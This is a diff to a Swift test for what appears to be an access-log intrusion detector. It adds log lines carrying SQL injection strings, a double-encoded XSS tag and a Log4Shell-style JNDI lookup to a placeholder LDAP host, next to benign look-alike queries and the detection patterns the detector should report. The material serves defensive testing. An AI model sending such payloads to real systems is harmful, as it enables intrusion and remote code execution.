@@ -75,6 +75,26 @@ paths:
         #expect(alerts.first?.path == "/.env")
     }
 
+    /// Injection payloads in the URL, even on a documented route and encoded once or twice, mark a probing client;
+    /// searches with quotes, parentheses and percent-encoding do not.
+    @Test func injectionPayloadsInTheURL() throws {
+        let lines = [
+            "+0 203.0.113.90 - GET /v1/users/7?sort=name%27%20UNION%20ALL%20SELECT%20NULL--%20- 200 Mozilla/5.0",
+            "+1 203.0.113.91 - GET /v1/users/me?q=%253Cscript%253Ealert(1)%253C%2Fscript%253E 200 Mozilla/5.0",
+            "+2 203.0.113.92 - GET /v1/home?x=${jndi:ldap://x.example/a} 200 Mozilla/5.0",
+            "+3 203.0.113.93 - GET /v1/users/me?q=1'+or+1=1--+- 200 Mozilla/5.0",
+            "+4 203.0.113.94 - GET /v1/users/me?q=union/**/select+1 200 Mozilla/5.0",
+            "+5 192.0.2.10 - GET /v1/users/me?q=rock+%27n%27+roll+(live) 200 Mozilla/5.0",
+            "+6 192.0.2.11 - GET /v1/users/me?q=select+a+union+plan&sort=-created 200 Mozilla/5.0",
+            "+7 192.0.2.12 - GET /v1/users/me?filter=%7B%22name%22%3A%22o%27brien%22%7D 200 Mozilla/5.0",
+        ]
+        let alerts = only(try DetectorHarness.run(lines: lines, configuration: try specConfig()), .unknownEndpoint)
+        #expect(alerts.map(\.incidentKey) == (90...94).map { "probe:ip:203.0.113.\($0)" })
+        #expect(alerts.allSatisfy { $0.evidence.first { $0.0 == "reason" }?.1 == .string("injection-payload") })
+        #expect(alerts.map { $0.evidence.first { $0.0 == "pattern" }?.1 } ==
+            [.string("union all select"), .string("<script"), .string("${jndi:"), .string("' or 1=1"), .string("union select")])
+    }
+
     @Test func probingClientWithManyUnknownPaths() throws {
         let words = ["admin", "backup", "old", "test", "api2", "beta", "dev", "staging", "private", "internal", "tmp", "secret"]
         let lines = words.enumerated().map { "+\($0.offset) 203.0.113.70 - GET /\($0.element) 404 Mozilla/5.0" }
